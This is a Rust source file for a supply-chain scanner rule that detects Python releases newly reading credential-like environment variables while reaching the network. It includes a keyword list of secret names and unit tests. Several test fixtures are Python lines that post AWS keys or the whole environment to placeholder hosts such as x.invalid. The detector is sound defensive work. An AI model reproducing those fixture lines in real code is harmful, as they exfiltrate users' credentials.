//! `py-env-exfiltration`: a file newly reads secret-looking environment variables (or the
//! whole environment) and talks to the network in the same place.

use std::collections::BTreeSet;

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, MAX_EVIDENCE, evidence};
use crate::facts::{Capability, Moment, Occurrence};

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "py-env-exfiltration",
    group: "pyanalyze",
    severity: Severity::Critical,
    default_level: Level::Deny,
    summary: "Python code newly reads secret-looking environment variables (or the whole environment) where it also reaches the network.",
    doc: r#"Fires when the new release reads an environment variable named like a credential (`*TOKEN*`, `*SECRET*`, `*KEY*`, `*PASS*`, `AWS_*`, `*CREDENTIAL*`, `*AUTH*`, `*SESSION*`, `*API*`) or the whole environment (`os.environ.items()`, `dict(os.environ)`, `str(os.environ)`) that no file of the previous release read, and the same function — or the same file when both run at import, start or install time — uses the network or DNS. Reads are followed through aliases (`from os import environ as e`, `g = os.getenv`, `getattr(os, 'environ')`, `__import__('os')`).

**Why it matters.** This is the credential-stealer shape of Python takeovers: ctx 0.2.6 (2022) sent `os.environ` to a remote host; num2words 0.5.15 and guardrails-ai (2025–2026) read tokens and cloud keys in a patch release's `__init__.py`.

**Severity.** Critical when the code runs at install, interpreter start or import; high when only a call runs it (it is still denied: ctx ran it in a constructor).

**How to silence.** A policy exception on `py-env-exfiltration` for `name@version`, after reading the code."#,
};

const SECRET: &[&str] = &[
    "TOKEN",
    "SECRET",
    "KEY",
    "PASS",
    "AWS_",
    "CREDENTIAL",
    "AUTH",
    "SESSION",
    "API",
    "PRIVATE",
];

/// A name that looks like a credential, the whole environment (`*`), or a name computed at
/// run time (`?`: `environ.get(n)` over a list of names). A computed name cannot be shown to
/// be harmless, so it counts, as a computed destination does on the npm side.
pub(crate) fn secretish(detail: &str) -> bool {
    let up = detail.to_ascii_uppercase();
    detail == "*" || detail == "?" || SECRET.iter().any(|s| up.contains(s))
}

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let known = cx.old.details(Capability::EnvRead);
    // A computed name is "known" only where the previous release already read one in the
    // same file (a computed read elsewhere says nothing about this one).
    let old_computed: BTreeSet<&str> = cx
        .old
        .uses(Capability::EnvRead)
        .filter(|o| o.detail.as_deref() == Some("?"))
        .map(|o| o.path.as_str())
        .collect();
    let reads: Vec<&Occurrence> = cx
        .new
        .uses(Capability::EnvRead)
        .filter(|o| match o.detail.as_deref() {
            Some("?") => !old_computed.contains(o.path.as_str()),
            Some(d) => secretish(d) && !known.contains(d),
            None => false,
        })
        .collect();
    let sends: Vec<&Occurrence> = cx
        .new
        .occurrences
        .iter()
        .filter(|o| matches!(o.capability, Capability::Network | Capability::Dns))
        .collect();
    let mut files: BTreeSet<&str> = BTreeSet::new();
    for r in &reads {
        if files.contains(r.path.as_str()) {
            continue;
        }
        let together = |s: &&&Occurrence| {
            s.path == r.path
                && (s.scope == r.scope
                    || (s.moment <= Moment::Import && r.moment <= Moment::Import))
        };
        let Some(send) = sends.iter().find(together) else {
            continue;
        };
        files.insert(&r.path);
        let moment = r.moment.min(send.moment);
        let keys: BTreeSet<&str> = reads
            .iter()
            .filter(|o| o.path == r.path)
            .filter_map(|o| o.detail.as_deref())
            .collect();
        let severity = if moment <= Moment::Import {
            Severity::Critical
        } else {
            Severity::High
        };
        let ev = reads
            .iter()
            .filter(|o| o.path == r.path)
            .take(MAX_EVIDENCE - 1)
            .map(|o| evidence(o))
            .chain([evidence(send)]);
        out.push(
            Finding::new(
                &RULE,
                format!(
                    "{} in {} reads the environment ({}) and uses the network ({}) at {}; {} read none of these",
                    r.path,
                    cx.to(),
                    keys.into_iter().collect::<Vec<_>>().join(", "),
                    send.detail.as_deref().unwrap_or("?"),
                    moment.as_str(),
                    cx.from(),
                ),
            )
            .with_severity(severity)
            .with_evidence_all(ev),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn fires_for_new_keys_sent_at_import() {
        let f = init_diff(
            "import requests\n",
            "import os, requests\nrequests.post('https://x.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
            RULE.code,
        );
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].severity, Severity::Critical);
    }

    #[test]
    fn call_time_flow_in_one_function_is_high() {
        let f = init_diff(
            "",
            "import os, urllib.request\ndef f():\n    urllib.request.urlopen('https://x.invalid/?' + str(os.environ))\n",
            RULE.code,
        );
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].severity, Severity::High);
    }

    #[test]
    fn quiet_for_known_keys_and_harmless_ones() {
        let old = "import os, requests\ndef f():\n    requests.get('https://api.example', headers={'a': os.environ['API_TOKEN']})\n";
        let new = "import os, requests\ndef f():\n    requests.post('https://api.example', headers={'a': os.environ['API_TOKEN']})\n";
        assert!(init_diff(old, new, RULE.code).is_empty());
        let new = "import os, requests\nrequests.get('https://x.example', proxies={'http': os.getenv('HTTP_PROXY')})\n";
        assert!(init_diff("", new, RULE.code).is_empty());
    }

    /// The names come from a list the comprehension walks: no constant name to judge, so the
    /// read counts (seen in the bundled demo: `{n: environ.get(n) for n in (...)}` sent at
    /// import walked past the rule before).
    #[test]
    fn computed_names_count_and_a_known_computed_read_in_the_same_file_does_not() {
        let new = "import os as _o, urllib.request as _u\n_k = {n: _o.environ.get(n, '') for n in ('A', 'B')}\n_u.urlopen('https://t.invalid', data=repr(_k).encode())\n";
        let f = init_diff("import urllib.request\n", new, RULE.code);
        assert_eq!(f.len(), 1, "{f:?}");
        let old = "import os\ndef cfg(n):\n    return os.environ.get(n)\n";
        let new_same = format!(
            "{old}import urllib.request\nurllib.request.urlopen('https://t.invalid', data=cfg('X'))\n"
        );
        // The previous release already read computed names in this file: not new.
        assert!(init_diff(old, &new_same, RULE.code).is_empty());
    }
}
